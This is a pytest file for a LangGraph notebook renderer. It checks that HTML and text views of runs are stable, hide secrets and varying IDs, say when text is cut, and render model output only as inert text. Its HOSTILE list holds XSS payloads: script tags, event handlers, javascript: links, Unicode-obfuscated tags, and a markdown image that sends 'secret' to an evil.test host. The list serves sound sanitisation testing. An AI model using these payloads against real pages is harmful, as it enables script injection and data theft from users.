"""The static faces: the same on every run, harmless whatever was said, honest about cuts."""

import enum
import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import strategies as st
from langgraph.checkpoint.memory import InMemorySaver
from langgraph.graph import START, StateGraph
from langgraph.types import interrupt

from lg_notebook import Run, stream
from lg_notebook.model.filters import Filters
from lg_notebook.render.mime_bundle import static_faces
from lg_notebook.render.static_html import to_html
from lg_notebook.render.static_text import to_text
from lg_notebook.runtime.execution import Execution
from lg_notebook.runtime.graph_source import GraphSource
from tests.chance import given
from tests.golden import NAMES, golden
from tests.graphs.model import Scripted, say
from tests.graphs.zoo import HELLO, THREAD, TOPIC, ZOO, MyState, chat

SECRET = "sk-12345678"

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "</div></section><style>*{display:none}</style>",
    '<a href="javascript:alert(1)">x</a>',
    "![x](https://evil.test/?q=secret)",
    "<!--", "]]>", "<![CDATA[", "&lt;script&gt;", "\"' onmouseover='alert(1)", "<base href=//evil>",
    "\x00<\x00script>", "<scr\u202eipt>", "<\u017fcript>",
]  # fmt: skip


ELEMENTS = {"section", "div", "span", "b", "pre", "details", "summary", "table", "tr", "th", "td"}
"""None that does anything; GitHub leaves all of them, but for their style."""


class Elements(HTMLParser):
    """The elements and attributes of a fragment."""

    def __init__(self, html):
        super().__init__()
        self.names, self.attributes, self.text = set(), set(), ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attributes):
        self.names.add(tag)
        self.attributes |= {name for name, _ in attributes}

    def handle_data(self, data):
        self.text += data


def spoken(text, **more):
    run = Run.from_events(stream(chat(Scripted(replies=[say(text, **more)])), HELLO))
    assert run.status == "done"
    return run


def faces(name):
    build, value = ZOO[name]
    try:
        run = Run.from_events(stream(build(), value, THREAD))
    except ValueError:
        run = Run.from_events(golden(name)["events"])
    return static_faces(run)


@pytest.mark.parametrize("name", ZOO)
def test_the_same_from_run_to_run(name):
    assert faces(name) == faces(name)


@pytest.mark.parametrize("name", NAMES)
def test_nothing_that_varies_is_shown(name):
    fixture = golden(name)
    shown = "".join(static_faces(Run.from_events(fixture["events"])).values())

    assert not re.search(r"[0-9a-f]{8}-[0-9a-f]{4}|lc_run|0x[0-9a-f]{6}", shown)
    assert str(fixture["state"]["duration"]) not in shown


@pytest.mark.parametrize("said", HOSTILE)
def test_what_a_model_says_is_text(said):
    elements = Elements(to_html(spoken(said)))

    assert elements.names <= ELEMENTS
    assert elements.attributes <= {"style"}
    assert said.replace("\x00", "\ufffd") in elements.text.replace("\x00", "\ufffd")


@pytest.mark.parametrize("said", HOSTILE)
def test_what_comes_beside_the_text_is_text_too(said):
    place = {"ns": [f"{said}:1"], "task": said, "node": said, "step": None}
    start = {
        "type": "message-start", "message": 0, "id": said, "role": said, "name": said,
        "origin": "streamed", "of": None, "tool_call_id": said, "metadata": {}, **place,
    }  # fmt: skip
    call = {
        "type": "delta", "message": 0, "block": 0, "kind": "tool_call", "text": said,
        "call_id": said, "name": said, **place,
    }  # fmt: skip
    odd = {"type": "delta", "message": 0, "block": 1, "kind": said, "text": said, **place}
    thought = {**odd, "block": 2, "kind": "reasoning"}
    error = {"type": said, "message": said, "traceback": said}
    end = {
        "type": "run-end",
        "status": "error",
        "error": error,
        "duration": 1,
        "state": said,
        **place,
    }
    asked = {"type": "interrupt", "id": said, "value": said, **place}
    rows = [start, call, odd, thought, asked, end]
    run = Run.from_events([{**row, "seq": seq, "t": seq} for seq, row in enumerate(rows)])

    elements = Elements(to_html(run))

    assert elements.names <= ELEMENTS
    assert elements.attributes <= {"style"}
    assert elements.text.replace("\x00", "").count(said.replace("\x00", "")) >= 5


def test_reasoning_is_folded_and_media_are_named():
    run = Run.from_events(golden("thinking")["events"])

    assert "<details><summary>Reasoning</summary>" in to_html(run)
    assert "https://" not in to_html(run)
    assert "(reasoning) Let me see." in to_text(run)
    assert "[image]" in to_text(run)


@pytest.mark.parametrize("face", [to_text, to_html])
def test_what_is_cut_says_so(face):
    shown = face(spoken("x" * 1000), limit=100)

    assert "x" * 101 not in shown
    assert "more characters are not shown here" in shown
    assert face(spoken("x" * 1000)).count("x") >= 1000


@pytest.mark.parametrize("face", [to_text, to_html])
def test_only_what_is_requested(face):
    run = Run.from_events(golden("parallel")["events"])
    shown = face(run, Filters.of(node="write_joke"))

    assert "a joke about it" in shown
    assert "a poem about it" not in shown


@pytest.mark.parametrize(
    ("status", "words"),
    [("stopped", "The run was stopped."), ("interrupted", "The run waits for an answer.")],
)
def test_the_end_is_shown(status, words):
    events = golden("joke")["events"]
    run = Run.from_events([*events[:-1], {**events[-1], "status": status}])

    assert words in to_text(run)
    assert words in to_html(run)


def test_a_run_that_goes_on_and_one_without_messages():
    events = golden("joke")["events"]

    assert "had not ended" in to_text(Run.from_events(events[:5]))
    assert "gave no messages" in to_text(Run.from_events([events[0], events[-1]]))


def test_an_error_is_shown_without_its_traceback():
    text = to_text(Run.from_events(golden("failing")["events"]))

    assert text.endswith("[ValueError] the node broke")
    assert "Traceback" not in text


class Question(enum.Enum):
    """A value that LangGraph can store, whose repr shows more than it should."""

    NOW = "now?"

    def __repr__(self):
        return f"<Question at {id(self):#x} {time.monotonic_ns()}>"


def asking_for(value):
    def ask(state: MyState):
        interrupt(value)

    builder = StateGraph(MyState).add_node(ask).add_edge(START, "ask")
    return builder.compile(checkpointer=InMemorySaver())


def live(value, api_key="none"):
    """A run with the interrupt's own object, as the process that ran it has it."""
    config = {"configurable": {"thread_id": "1", "api_key": api_key}}
    return Execution(GraphSource(asking_for(value), TOPIC, config)).block(threaded=False)


def test_a_question_is_shown_the_same_each_time():
    assert static_faces(live({"ask": Question.NOW})) == static_faces(live({"ask": Question.NOW}))


def test_no_secret_in_a_question():
    run = live({"say": f"is it {SECRET}?", "password": "hush"}, api_key=SECRET)
    shown = "".join(static_faces(run).values())

    assert SECRET not in shown
    assert "hush" not in shown


def test_a_question_is_shown_as_it_was_recorded():
    run = live({"question": "Shall I?"})

    assert to_text(run) == to_text(Run.from_events(run.events))


def about(**metadata):
    events = golden("joke")["events"]
    for event in events:
        if event["type"] == "message-start" and event["origin"] == "streamed":
            event["metadata"] |= metadata
    return to_html(Run.from_events(events))


def test_each_message_tells_where_it_comes_from_and_what_it_cost():
    run = Run.from_events(golden("agent")["events"])
    html = to_html(run)

    assert html.count("<th>Node</th>") == sum(m.origin != "input" for m in run.messages)
    assert f"<th>Model</th><td>{run.messages[-1].metadata['ls_model_name']}</td>" in html
    if run.usage:
        assert f"Usage: {run.usage['input_tokens']:,} tokens in" in html


def test_metadata_of_the_users_own_is_shown_unless_it_varies():
    html = about(
        customer="Ada", level=3, tags=["joke"], request_id="r-1", created_at="2026-01-01",
        seen="2026-01-01T10:00:00", trace="0f3ac2d1-1111-2222", epoch=1795374850, deep={"a": 1},
    )  # fmt: skip

    assert "<th>customer</th><td>Ada</td>" in html
    assert "<th>level</th><td>3</td>" in html
    assert "<th>Tags</th><td>joke</td>" in html
    for name in ("request_id", "created_at", "seen", "trace", "epoch", "deep"):
        assert name not in html


def test_a_long_text_is_folded_and_whole():
    long = "\n".join(f"line {n}" for n in range(2000))
    html = to_html(spoken(long))

    assert "more characters</summary>" in html
    assert Elements(html).text.count("line 1999") == 1
    before, _, after = html.partition("<details><summary>")
    assert before.rstrip().endswith("</pre>")
    assert "line 0\nline 1\n" in before
    assert "line 1999</pre>" in after


GITHUB = {
    "a", "b", "blockquote", "br", "code", "dd", "del", "details", "div", "dl", "dt", "em", "h1",
    "h2", "h3", "h4", "h5", "h6", "hr", "i", "img", "ins", "kbd", "li", "ol", "p", "pre", "q",
    "s", "samp", "span", "strike", "strong", "sub", "summary", "sup", "table", "tbody", "td",
    "tfoot", "th", "thead", "tr", "tt", "ul", "var",
}  # fmt: skip
"""What GitHub leaves of HTML (its html-pipeline); of `section` it leaves what is within."""


@pytest.mark.parametrize("name", NAMES)
def test_github_leaves_it_readable(name):
    nh3 = pytest.importorskip("nh3")
    run = Run.from_events(golden(name)["events"])

    left = nh3.clean(to_html(run), tags=GITHUB, attributes={})

    assert "style" not in left
    elements = Elements(left)
    assert elements.names <= GITHUB
    for message in run.messages:
        assert message.text in elements.text
        for call in message.tool_calls:
            assert call.text in elements.text


_PIECES = st.lists(st.sampled_from([*HOSTILE, "a", " ", "\n", "`", "<", ">", "&", '"', "'"])).map(
    "".join
)


@given(texts=st.lists(_PIECES | st.text(), min_size=4, max_size=4), limit=st.integers(0, 50))
def test_no_input_makes_an_active_element(texts, limit):
    said, node, key, value = texts
    place = {"ns": [f"{node}:1"], "task": node, "node": node, "step": None}
    rows = [
        {"type": "message-start", "message": 0, "id": None, "role": key, "name": value,
         "origin": "streamed", "of": None, "tool_call_id": None,
         "metadata": {key: value, "tags": [value], "ls_model_name": value}, **place},
        {"type": "delta", "message": 0, "block": 0, "kind": "text", "text": said, **place},
        {"type": "interrupt", "id": None, "value": value, **place},
    ]  # fmt: skip
    run = Run.from_events([{**row, "seq": seq, "t": seq} for seq, row in enumerate(rows)])

    for elements in (Elements(to_html(run)), Elements(to_html(run, limit=limit))):
        assert elements.names <= ELEMENTS
        assert elements.attributes <= {"style"}
